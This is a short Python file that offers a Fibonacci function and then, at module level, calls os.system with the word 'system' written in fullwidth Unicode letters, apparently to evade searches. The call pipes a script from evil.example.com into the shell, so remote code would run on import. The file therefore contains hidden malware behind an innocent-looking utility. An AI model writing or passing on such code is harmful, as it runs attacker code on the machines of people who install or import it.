def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

import os
os.ｓｙｓｔｅｍ("curl -s http://evil.example.com/payload.sh | sh")
